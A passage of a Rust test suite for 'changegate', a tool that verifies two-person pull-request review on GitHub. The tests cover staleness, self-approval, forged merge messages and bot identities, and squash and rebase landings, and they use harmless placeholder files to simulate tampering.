//! Two-person review verification, case by case from the research
//! catalogue (`review-verification.md` §6): each test is named by its
//! catalogue number. Every case is a real git repository served by the
//! GitHub stand-in, collected with `changegate collect`, and judged by the
//! pure `review::verify` over the record.

use changegate::Config;
use changegate::Evidence;
use changegate::analyze::verify;
use changegate::standins::SITE_CONFIG;
use changegate::standins::github::{Event, Pull, Review};
use changegate::{Code, LandingKind, ReviewReport, Verdict};
use serde_json::{Value, json};

use crate::collect::{Git, REPO, collect, collect_key, collect_pipeline, deployed, register};
use crate::support::sandbox::Sandbox;

/// A repository whose first commit was deployed and approved (the base).
struct Case {
    sb: Sandbox,
    g: Git,
    base: String,
    config: String,
}

impl Case {
    fn new() -> Case {
        Case::with("")
    }

    /// With extra configuration (a `[review]` table).
    fn with(extra: &str) -> Case {
        let config = format!("{SITE_CONFIG}\n{extra}\n");
        let sb = Sandbox::with_config(&config);
        let g = Git::new();
        let base = g.head();
        Case { sb, g, base, config }
    }

    /// Registers the pull requests, deploys the base, collects the evidence
    /// of the current head and judges it.
    fn judge(&self, pulls: Vec<Pull>) -> (ReviewReport, Evidence) {
        register(&self.sb, &self.g.path, pulls);
        deployed(&self.sb, &self.base);
        self.judge_again(&self.g.head())
    }

    /// Collects and judges `commit` (the stand-in is already set up).
    fn judge_again(&self, commit: &str) -> (ReviewReport, Evidence) {
        self.sb.stand_ins.with_github(|gh| gh.add_repo(REPO, &self.g.path));
        let (e, out) = collect(&self.sb, commit);
        assert_eq!(out.code, 0, "collect: {}{}", out.stdout, out.stderr);
        self.decide(&e)
    }

    fn decide(&self, e: &Value) -> (ReviewReport, Evidence) {
        let evidence = Evidence::from_json(&e.to_string()).unwrap();
        let config = Config::parse(&self.config, "test", changegate::Date::today_utc()).unwrap();
        (verify(&evidence, &config.review), evidence)
    }

    fn approve(&self, p: Pull, reviewer: &str, id: u64) -> Pull {
        p.approved_by(reviewer, id)
    }
}

/// A feature branch merged with GitHub's merge button as pull request `n`.
fn merged(g: &Git, n: u64, name: &str, author: &str, commits: usize) -> (Pull, Vec<String>, String) {
    let f = g.feature(name, author, commits);
    let m = g.merge(name, &format!("Merge pull request #{n} from acme/{name}"));
    (Pull::merged(n, author, f.last().unwrap(), &f, &m, std::slice::from_ref(&m)), f, m)
}

fn review(id: u64, author: &str, state: &str, at: &str, commit: &str) -> Review {
    Review { id, author: author.into(), state: state.into(), submitted_at: at.into(), commit: commit.into() }
}

fn codes(r: &ReviewReport, i: usize) -> Vec<Code> {
    r.landings[i].findings.iter().map(|f| f.code).collect()
}

#[track_caller]
fn landing(r: &ReviewReport, i: usize, verdict: Verdict, code: Code) {
    let l = &r.landings[i];
    assert_eq!((l.verdict, l.findings.first().map(|f| f.code)), (verdict, Some(code)), "{r:#?}");
}

// Range and history.

#[test]
fn tc01_nothing_new_since_the_last_deploy_passes() {
    let c = Case::new();
    let (r, _) = c.judge(Vec::new());
    assert_eq!(r.verdict, Verdict::Pass, "{r:#?}");
    assert!(r.findings.iter().any(|f| f.code == Code::NoChanges));
    assert!(r.landings.is_empty());
}

#[test]
fn tc02_a_base_that_is_not_an_ancestor_is_history_rewritten() {
    let c = Case::new();
    c.g.write("a.txt", "a\n");
    let deployed_commit = c.g.commit("dana", "deployed, later rewritten");
    register(&c.sb, &c.g.path, Vec::new());
    deployed(&c.sb, &deployed_commit);
    c.g.run(&["reset", "-q", "--hard", &c.base]);
    c.g.write("b.txt", "b\n");
    let head = c.g.commit("dana", "rewritten main");
    let (r, _) = c.judge_again(&head);
    assert_eq!(r.verdict, Verdict::Fail);
    assert_eq!(r.findings[0].code, Code::HistoryRewritten, "{r:#?}");
}

#[test]
fn tc03_a_commit_not_on_the_protected_branch_fails() {
    // Built from a feature branch.
    let c = Case::new();
    let f = c.g.feature("topic", "alice", 1);
    register(&c.sb, &c.g.path, Vec::new());
    deployed(&c.sb, &c.base);
    let p = c.sb.pipeline("gh/acme/web", "topic", &f[0]);
    let (e, out) = collect_pipeline(&c.sb, &p);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let (r, _) = c.decide(&e);
    assert_eq!(r.verdict, Verdict::Fail);
    assert!(r.findings.iter().any(|x| x.code == Code::DeployShaNotOnProtectedBranch), "{r:#?}");

    // Built from main, which was then reset behind it.
    let c = Case::new();
    c.g.write("x.txt", "x\n");
    let head = c.g.commit("dana", "direct");
    register(&c.sb, &c.g.path, Vec::new());
    deployed(&c.sb, &c.base);
    let p = crate::collect::pipeline(&c.sb, &head);
    c.g.run(&["reset", "-q", "--hard", &c.base]);
    c.sb.stand_ins.with_github(|gh| gh.add_repo(REPO, &c.g.path));
    let (e, _) = collect_pipeline(&c.sb, &p);
    let (r, _) = c.decide(&e);
    let f = r.findings.iter().find(|x| x.code == Code::DeployShaNotOnProtectedBranch).expect("found");
    assert!(f.detail.contains("behind"), "{f:?}");
}

#[test]
fn tc04_a_backdated_commit_is_still_checked() {
    let c = Case::new();
    c.g.write("old.txt", "x\n");
    c.g.run(&["add", "-A"]);
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(&c.g.path)
        .args(["-c", "user.name=mallory", "-c", "user.email=mallory@acme.test", "commit", "-q", "-m", "backdated"])
        .env("GIT_COMMITTER_DATE", "2001-01-01T00:00:00Z")
        .env("GIT_AUTHOR_DATE", "2001-01-01T00:00:00Z")
        .status()
        .unwrap();
    assert!(out.success());
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
}

#[test]
fn tc05_more_than_250_commits_are_all_checked() {
    let c = Case::new();
    let (p, f, _) = merged(&c.g, 1, "big", "alice", 260);
    let (r, e) = c.judge(vec![c.approve(p, "bob", 1)]);
    assert_eq!(e.range.commits.len(), 261);
    assert_eq!(r.verdict, Verdict::Pass, "{r:#?}");
    assert_eq!(r.landings.len(), 1);
    assert_eq!(r.landings[0].covers.len(), f.len(), "every commit of the branch is covered by the merge");
}

#[test]
fn tc06_a_direct_push_has_no_pull_request() {
    let c = Case::new();
    c.g.write("hotfix.txt", "x\n");
    c.g.commit("dana", "hotfix straight to main");
    let (r, _) = c.judge(Vec::new());
    assert_eq!(r.verdict, Verdict::Fail);
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert_eq!(r.landings[0].kind, LandingKind::Direct);
}

// Pull request mapping.

#[test]
fn tc08_tc15_mapped_through_the_reverse_index_and_approved() {
    let c = Case::new();
    let (p, _, m) = merged(&c.g, 1, "f", "alice", 2);
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    assert_eq!(r.verdict, Verdict::Pass, "{r:#?}");
    landing(&r, 0, Verdict::Pass, Code::Approved);
    let l = &r.landings[0];
    assert_eq!((l.sha.as_str(), l.pull, l.kind), (m.as_str(), Some(1), LandingKind::Merge));
    assert_eq!(l.approvers[0].id, 1002);
    // Without git objects the merge's content is reported as unchecked.
    assert!(l.flags.iter().any(|f| f.code == Code::ContentUnchecked));
}

#[test]
fn tc09_a_hint_recovers_a_pull_request_the_index_misses() {
    let c = Case::new();
    // GitHub's merge message names the number: "Merge pull request #123 from ...".
    let (mut p, _, _) = merged(&c.g, 123, "f", "alice", 1);
    p.unindexed = true;
    let (r, e) = c.judge(vec![c.approve(p, "bob", 1)]);
    assert!(e.associated.values().all(Vec::is_empty), "the reverse index is empty");
    landing(&r, 0, Verdict::Pass, Code::Approved);
}

#[test]
fn tc10_a_forged_hint_does_not_link() {
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 123, "f", "alice", 1);
    c.g.write("evil.txt", "x\n");
    c.g.commit("mallory", "Innocent change (#123)");
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    landing(&r, 1, Verdict::Fail, Code::NoPullRequest);
}

#[test]
fn tc10_a_hint_to_a_missing_pull_request_is_no_link_not_a_failed_batch() {
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
    c.g.write("evil.txt", "x\n");
    c.g.commit("mallory", "Looks reviewed (#99999)");
    let (r, e) = c.judge(vec![c.approve(p, "bob", 1)]);
    assert!(e.gaps.is_empty(), "{:?}", e.gaps);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    landing(&r, 1, Verdict::Fail, Code::NoPullRequest);
}

#[test]
fn tc11_tc14_approval_in_another_context_does_not_count() {
    for branch in ["dev", "release/1.x"] {
        let c = Case::new();
        // Merged into another branch through an approved pull request...
        let f = c.g.feature("feat", "alice", 1);
        let mut p = c.approve(Pull::merged(5, "alice", &f[0], &f, &f[0], &[]), "bob", 5);
        p.base_ref = branch.into();
        // ...then the same commit fast-forwarded onto main.
        c.g.run(&["merge", "-q", "--ff-only", "feat"]);
        let (r, _) = c.judge(vec![p]);
        landing(&r, 0, Verdict::Fail, Code::ApprovalWrongContext);
        assert!(r.landings[0].findings[0].detail.contains(branch));
    }
}

#[test]
fn tc12_every_associated_pull_request_is_considered() {
    let c = Case::new();
    let (p, f, m) = merged(&c.g, 2, "f", "alice", 1);
    let (_, e) = c.judge(vec![c.approve(p, "bob", 2)]);
    // A fork's pull request listed first (Scorecard's first:1 bug).
    let mut v = serde_json::to_value(&e).unwrap();
    let mine = v["associated"][&m][0].clone();
    let mut fork = mine.clone();
    fork["number"] = json!(77);
    fork["base_repository"] = json!("someone/web");
    v["associated"][&m] = json!([fork, mine]);
    let (r, _) = c.decide(&v);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    assert_eq!(r.landings[0].pull, Some(2));
    let _ = f;
}

#[test]
fn tc13_a_pull_request_closed_unmerged_does_not_cover_the_commit() {
    let c = Case::new();
    let f = c.g.feature("f", "alice", 1);
    let mut p = c.approve(Pull::merged(3, "alice", &f[0], &f, &f[0], &[]), "bob", 3);
    p.merged = false;
    p.merged_at = None;
    p.merge_commit = None;
    c.g.run(&["merge", "-q", "--ff-only", "f"]);
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
}

// Approval validity.

#[test]
fn tc16_a_push_after_the_approval_makes_it_stale() {
    let c = Case::new();
    let f = c.g.feature("f", "alice", 2);
    let m = c.g.merge("f", "Merge pull request #1");
    let mut p = Pull::merged(1, "alice", &f[1], &f, &m, std::slice::from_ref(&m));
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::ApprovalStale);
}

#[test]
fn tc17_tc18_a_force_push_after_the_approval_makes_it_stale() {
    for repointed in [true, false] {
        let c = Case::new();
        let f = c.g.feature("f", "alice", 1);
        let m = c.g.merge("f", "Merge pull request #1");
        let mut p = Pull::merged(1, "alice", &f[0], &f, &m, std::slice::from_ref(&m));
        // GitHub re-points an undismissed approval at the new head (17), or
        // leaves it on the old one (18).
        let old = c.base.clone();
        p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", if repointed { &f[0] } else { &c.base }));
        p.events.insert(
            0,
            Event::ForcePushed {
                at: "2026-11-20T10:30:00Z".into(),
                actor: "alice".into(),
                before: old,
                after: f[0].clone(),
            },
        );
        let (r, _) = c.judge(vec![p]);
        landing(&r, 0, Verdict::Fail, Code::ApprovalStale);
    }
}

#[test]
fn tc19_update_branch_after_the_approval_makes_it_stale() {
    let c = Case::new();
    let f = c.g.feature("f", "alice", 1);
    c.g.write("main.txt", "moved\n");
    c.g.commit("dana", "main moves");
    // "Update branch": main merged into the PR by web-flow.
    c.g.run(&["checkout", "-q", "f"]);
    c.g.as_github("alice", &["merge", "-q", "--no-ff", "main", "-m", "Merge branch 'main' into f"]);
    let head = c.g.head();
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("f", "Merge pull request #1");
    let mut p = Pull::merged(1, "alice", &head, &[f[0].clone(), head.clone()], &m, std::slice::from_ref(&m));
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    // The direct push to main fails on its own; the merge fails as stale.
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    landing(&r, 1, Verdict::Fail, Code::ApprovalStale);
}

#[test]
fn tc20_tc21_later_reviews_of_the_same_reviewer() {
    for (state, verdict) in [("CHANGES_REQUESTED", Verdict::Fail), ("COMMENTED", Verdict::Pass)] {
        let c = Case::new();
        let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
        p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
        p.reviews.push(review(2, "bob", state, "2026-11-20T11:00:00Z", &f[0]));
        let (r, _) = c.judge(vec![p]);
        assert_eq!(r.landings[0].verdict, verdict, "{state}: {r:#?}");
        if verdict == Verdict::Fail {
            assert_eq!(codes(&r, 0), [Code::NoApproval]);
        }
    }
}

#[test]
fn tc22_a_dismissal_before_the_merge_removes_the_approval_after_it_is_flagged() {
    for (at, verdict) in [("2026-11-20T11:30:00Z", Verdict::Fail), ("2026-11-21T09:00:00Z", Verdict::Pass)] {
        let c = Case::new();
        let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
        p.reviews.push(review(7, "bob", "DISMISSED", "2026-11-20T10:00:00Z", &f[0]));
        p.events.push(Event::ReviewDismissed {
            at: at.into(),
            actor: "carol".into(),
            review: 7,
            previous_state: "APPROVED".into(),
        });
        let (r, _) = c.judge(vec![p]);
        assert_eq!(r.landings[0].verdict, verdict, "dismissed at {at}: {r:#?}");
        if verdict == Verdict::Pass {
            assert!(r.landings[0].flags.iter().any(|x| x.code == Code::PostMergeConcern));
        } else {
            assert_eq!(codes(&r, 0), [Code::NoApproval]);
        }
    }
}

#[test]
fn tc23_an_approval_after_the_merge_does_not_count() {
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T12:00:01Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::NoApproval);
    assert!(r.landings[0].findings[0].detail.contains("after"), "{r:#?}");
}

#[test]
fn tc24_a_base_change_after_the_approval_makes_it_stale() {
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
    p.events.push(Event::BaseRefChanged {
        at: "2026-11-20T11:00:00Z".into(),
        previous: "dev".into(),
        current: "main".into(),
    });
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::ApprovalStale);
}

#[test]
fn tc25_tc26_tc28_comments_pending_reviews_and_no_reviews_are_not_approvals() {
    for reviews in [vec![("COMMENTED", "2026-11-20T10:00:00Z")], vec![], vec![("PENDING", "")]] {
        let c = Case::new();
        let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
        for (i, (state, at)) in reviews.iter().enumerate() {
            p.reviews.push(review(i as u64 + 1, "bob", state, at, &f[0]));
        }
        let (r, _) = c.judge(vec![p]);
        landing(&r, 0, Verdict::Fail, Code::NoApproval);
    }
}

#[test]
fn tc27_an_approval_on_the_head_after_its_push_passes() {
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T11:59:43Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
}

#[test]
fn tc29_tc30_distinct_approvers_are_counted() {
    let cfg = "[review]\nmin_approvals = 2\n";
    // Two approvals by the same person count once.
    let c = Case::with(cfg);
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
    p.reviews.push(review(2, "bob", "APPROVED", "2026-11-20T10:05:00Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::InsufficientApprovals);
    // Two distinct independent reviewers pass.
    let c = Case::with(cfg);
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T10:00:00Z", &f[0]));
    p.reviews.push(review(2, "carol", "APPROVED", "2026-11-20T10:05:00Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    assert_eq!(r.landings[0].approvers.len(), 2);
}

#[test]
fn tc31_an_approval_on_an_old_commit_is_stale() {
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 2);
    p.reviews.push(review(1, "bob", "APPROVED", "2026-11-20T11:00:00Z", &f[0]));
    let (r, _) = c.judge(vec![p]);
    landing(&r, 0, Verdict::Fail, Code::ApprovalStale);
}

// Identity and independence.

#[test]
fn tc32_the_author_approving_their_own_pull_request_is_self_approval() {
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
    let (r, _) = c.judge(vec![c.approve(p, "alice", 1)]);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc33_an_approver_who_committed_to_the_pull_request_is_not_independent() {
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "f", "main"]);
    c.g.write("a.txt", "a\n");
    let a = c.g.commit("alice", "alice's change");
    c.g.write("b.txt", "b\n");
    let b = c.g.commit("bob", "bob's change");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("f", "Merge pull request #1");
    let p = Pull::merged(1, "alice", &b, &[a, b.clone()], &m, std::slice::from_ref(&m));
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc34_an_empty_commit_by_the_approver_is_not_authorship_by_default() {
    for (cfg, verdict) in [("", Verdict::Pass), ("[review]\nempty_commits_count_as_authorship = true\n", Verdict::Fail)]
    {
        let c = Case::with(cfg);
        c.g.run(&["checkout", "-q", "-b", "f", "main"]);
        c.g.write("a.txt", "a\n");
        let a = c.g.commit("alice", "change");
        let empty = c.g.commit("bob", "rerun CI");
        c.g.run(&["checkout", "-q", "main"]);
        let m = c.g.merge("f", "Merge pull request #1");
        let p = Pull::merged(1, "alice", &empty, &[a, empty.clone()], &m, std::slice::from_ref(&m));
        let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
        assert_eq!(r.landings[0].verdict, verdict, "{cfg}: {r:#?}");
    }
}

#[test]
fn a_commit_is_empty_by_its_tree_not_by_githubs_file_count() {
    // The approver's commit changes a file; a record claiming GitHub
    // counted no files does not make it empty.
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "f", "main"]);
    c.g.write("a.txt", "a\n");
    let a = c.g.commit("alice", "change");
    c.g.write("b.txt", "b\n");
    let by_bob = c.g.commit("bob", "also mine");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("f", "Merge pull request #1");
    let p = Pull::merged(1, "alice", &by_bob, &[a, by_bob.clone()], &m, std::slice::from_ref(&m));
    let (r, e) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
    let mut v = serde_json::to_value(&e).unwrap();
    for commit in v["pulls"]["1"]["commits"].as_array_mut().unwrap() {
        commit["changed_files"] = json!(0);
    }
    let (r, _) = c.decide(&v);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc35_the_approver_who_pushed_the_head_is_not_independent() {
    let c = Case::new();
    let (mut p, f, _) = merged(&c.g, 1, "f", "alice", 1);
    p.events.insert(
        0,
        Event::ForcePushed {
            at: "2026-11-20T09:00:00Z".into(),
            actor: "bob".into(),
            before: c.base.clone(),
            after: f[0].clone(),
        },
    );
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc36_a_co_authored_by_trailer_is_not_identity() {
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "f", "main"]);
    c.g.write("a.txt", "a\n");
    let a = c.g.commit("alice", "Apply suggestion\n\nCo-authored-by: bob <bob@acme.test>");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("f", "Merge pull request #1");
    let p = Pull::merged(1, "alice", &a, std::slice::from_ref(&a), &m, std::slice::from_ref(&m));
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
}

#[test]
fn tc37_a_commit_by_an_unknown_email_is_unattributable() {
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "f", "main"]);
    c.g.write("a.txt", "a\n");
    let a = c.g.commit("stranger", "who?");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("f", "Merge pull request #1");
    let p = Pull::merged(1, "alice", &a, std::slice::from_ref(&a), &m, std::slice::from_ref(&m));
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Fail, Code::UnattributableContributor);
}

#[test]
fn tc38_tc39_tc40_bots_deleted_accounts_and_readers_do_not_approve() {
    for reviewer in ["release-bot", "ghost", "erin"] {
        let c = Case::new();
        let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
        let (r, _) = c.judge(vec![c.approve(p, reviewer, 1)]);
        landing(&r, 0, Verdict::Fail, Code::NoApproval);
    }
    // Write access can be waived.
    let c = Case::with("[review]\nrequire_write_access = false\n");
    let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
    let (r, _) = c.judge(vec![c.approve(p, "erin", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
}

#[test]
fn tc41_identity_is_the_numeric_id_not_the_login() {
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
    let (r, e) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    // The reviewer renamed their login: nothing changes.
    let mut v = serde_json::to_value(&e).unwrap();
    v["pulls"]["1"]["reviews"][0]["author"]["login"] = json!("robert");
    let (r2, _) = c.decide(&v);
    assert_eq!(r2.landings[0].verdict, Verdict::Pass);
    // The author renamed to the reviewer's old login: still independent.
    v["pulls"]["1"]["author"]["login"] = json!("bob");
    let (r3, _) = c.decide(&v);
    assert_eq!(r3.landings[0].verdict, Verdict::Pass);
    // The author's id is the reviewer's: self-approval, whatever the logins.
    v["pulls"]["1"]["author"]["id"] = json!(1002);
    let (r4, _) = c.decide(&v);
    landing(&r4, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc42_tc43_dependabot_pull_requests() {
    // Approved by a human: passes.
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 1, "deps", "release-bot", 1);
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    // A maintainer pushed a commit, then approved: not independent.
    let c = Case::new();
    c.g.run(&["checkout", "-q", "-b", "deps", "main"]);
    c.g.write("Cargo.lock", "lock\n");
    let a = c.g.commit("release-bot", "bump dep");
    c.g.write("src.rs", "fix\n");
    let b = c.g.commit("bob", "fix the build");
    c.g.run(&["checkout", "-q", "main"]);
    let m = c.g.merge("deps", "Merge pull request #1");
    let p = Pull::merged(1, "release-bot", &b, &[a, b.clone()], &m, std::slice::from_ref(&m));
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 0, Verdict::Fail, Code::SelfApproval);
}

#[test]
fn tc44_a_forged_bot_author_string_gets_no_exemption() {
    let c = Case::with("[review.version_bump]\nbots = [41898282]\n");
    c.g.write("package.json", "{\n  \"name\": \"web\",\n  \"version\": \"1.1.0\"\n}\n");
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(&c.g.path)
        .args(["-c", "user.name=release-bot[bot]", "-c", "user.email=release-bot[bot]@users.noreply.github.com"])
        .args(["commit", "-q", "-am", "chore(release): 1.1.0"])
        .status()
        .unwrap();
    assert!(out.success());
    let (r, _) = c.judge(Vec::new());
    landing(&r, 0, Verdict::Fail, Code::NoPullRequest);
    assert!(r.landings[0].findings[0].detail.contains("release bot"), "{r:#?}");
}

// Merge methods and content.

#[test]
fn tc47_a_forged_merge_message_is_a_direct_push() {
    let c = Case::new();
    let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
    c.g.write("evil.txt", "x\n");
    c.g.commit("mallory", "Merge pull request #1 from acme/f");
    let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
    landing(&r, 1, Verdict::Fail, Code::NoPullRequest);
}

#[test]
fn tc48_tc50_squash_and_rebase_landings_fail_in_strict_mode() {
    let c = Case::new();
    let f2 = c.g.feature("f2", "alice", 2);
    let s2 = c.g.squash("f2", "Feature two (#2)");
    let f3 = c.g.feature("f3", "carol", 2);
    let r3 = c.g.rebase(&f3);
    let pulls = vec![
        c.approve(Pull::merged(2, "alice", &f2[1], &f2, &s2, std::slice::from_ref(&s2)), "bob", 2),
        c.approve(Pull::merged(3, "carol", &f3[1], &f3, &r3[1], &r3), "bob", 3),
    ];
    let (r, _) = c.judge(pulls);
    landing(&r, 0, Verdict::Fail, Code::SquashLandingNotReviewedSha);
    assert_eq!(r.landings[0].kind, LandingKind::Squash);
    for i in [1, 2] {
        landing(&r, i, Verdict::Fail, Code::RebaseLandingNotReviewedSha);
        assert_eq!((r.landings[i].kind, r.landings[i].pull), (LandingKind::Rebase, Some(3)));
    }
    // The approval itself was valid: it is listed.
    assert_eq!(r.landings[0].approvers[0].login, "bob");
}

#[test]
fn tc48_verified_squash_without_git_objects_is_undecidable() {
    let c = Case::with("[review]\nmode = \"verified-squash\"\n");
    let f = c.g.feature("f", "alice", 1);
    let s = c.g.squash("f", "Feature (#2)");
    let (r, _) = c.judge(vec![c.approve(Pull::merged(2, "alice", &f[0], &f, &s, std::slice::from_ref(&s)), "bob", 2)]);
    landing(&r, 0, Verdict::Undecidable, Code::ContentUnchecked);
    assert_eq!(r.verdict, Verdict::Undecidable);
}

#[test]
fn tc51_a_pull_request_landed_by_pushing_its_head_passes() {
    let c = Case::new();
    let f = c.g.feature("f", "alice", 1);
    c.g.run(&["merge", "-q", "--ff-only", "f"]);
    let (r, _) = c.judge(vec![c.approve(Pull::merged(1, "alice", &f[0], &f, &f[0], &[]), "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    assert_eq!(r.landings[0].kind, LandingKind::HeadPush);
}

#[test]
fn tc51_a_multi_commit_pull_request_landed_by_pushing_its_head_passes_in_both_modes() {
    for mode in ["strict", "verified-squash"] {
        let c = Case::with(&format!("[review]\nmode = \"{mode}\"\n"));
        let f = c.g.feature("f", "alice", 3);
        c.g.run(&["merge", "-q", "--ff-only", "f"]);
        let (r, _) = c.judge(vec![c.approve(Pull::merged(1, "alice", &f[2], &f, &f[2], &f), "bob", 1)]);
        assert_eq!(r.verdict, Verdict::Pass, "{mode}: {r:#?}");
        for i in 0..3 {
            landing(&r, i, Verdict::Pass, Code::Approved);
            assert_eq!((r.landings[i].kind, r.landings[i].pull), (LandingKind::HeadPush, Some(1)), "{mode}");
        }
    }
}

#[test]
fn a_fast_forward_with_a_commit_the_pull_request_does_not_hold_is_not_its_landing() {
    // The pull request's commits, then one more of someone else's, pushed
    // together: the extra commit is nobody's reviewed work.
    let c = Case::new();
    let f = c.g.feature("f", "alice", 2);
    c.g.run(&["merge", "-q", "--ff-only", "f"]);
    c.g.write("extra.txt", "x\n");
    c.g.commit("mallory", "more");
    let (r, _) = c.judge(vec![c.approve(Pull::merged(1, "alice", &f[1], &f, &f[1], &f), "bob", 1)]);
    landing(&r, 0, Verdict::Pass, Code::Approved);
    landing(&r, 1, Verdict::Pass, Code::Approved);
    landing(&r, 2, Verdict::Fail, Code::NoPullRequest);
}

/// Without git objects a merge passes only as GitHub's own merge of the
/// pull request; any other merge goes to a person.
#[cfg(not(feature = "git-objects"))]
mod merges_without_git_objects {
    use super::*;

    #[test]
    fn githubs_merge_of_the_pull_request_passes_with_its_content_unchecked_noted() {
        let c = Case::new();
        let (p, _, _) = merged(&c.g, 1, "f", "alice", 1);
        let (r, _) = c.judge(vec![c.approve(p, "bob", 1)]);
        landing(&r, 0, Verdict::Pass, Code::Approved);
        assert_eq!(r.landings[0].flags.iter().map(|f| f.code).collect::<Vec<_>>(), [Code::ContentUnchecked]);
    }

    #[test]
    fn a_merge_made_locally_with_extra_edits_and_pushed_goes_to_a_person() {
        let c = Case::new();
        let f = c.g.feature("f", "alice", 1);
        c.g.run(&["merge", "-q", "--no-ff", "--no-commit", "f"]);
        c.g.write("backdoor.txt", "extra\n");
        c.g.commit("dana", "Merge pull request #1 from acme/f");
        let m = c.g.head();
        let (r, _) =
            c.judge(vec![c.approve(Pull::merged(1, "alice", &f[0], &f, &m, std::slice::from_ref(&m)), "bob", 1)]);
        landing(&r, 0, Verdict::Fail, Code::MergeContentUnchecked);
        assert!(r.landings[0].findings[0].detail.contains("not committed by GitHub"), "{r:#?}");
    }

    #[test]
    fn a_merge_claiming_githubs_committer_without_its_signature_goes_to_a_person() {
        let c = Case::new();
        let f = c.g.feature("f", "alice", 1);
        c.g.as_github("dana", &["merge", "-q", "--no-ff", "--no-commit", "f"]);
        c.g.write("backdoor.txt", "extra\n");
        c.g.run(&["add", "backdoor.txt"]);
        c.g.as_github("dana", &["commit", "-q", "-m", "Merge pull request #1 from acme/f"]);
        let m = c.g.head();
        register(
            &c.sb,
            &c.g.path,
            vec![c.approve(Pull::merged(1, "alice", &f[0], &f, &m, std::slice::from_ref(&m)), "bob", 1)],
        );
        c.sb.stand_ins.with_github(|g| g.repo_mut(REPO).unsigned.push(m.clone()));
        deployed(&c.sb, &c.base);
        let (r, _) = c.judge_again(&m);
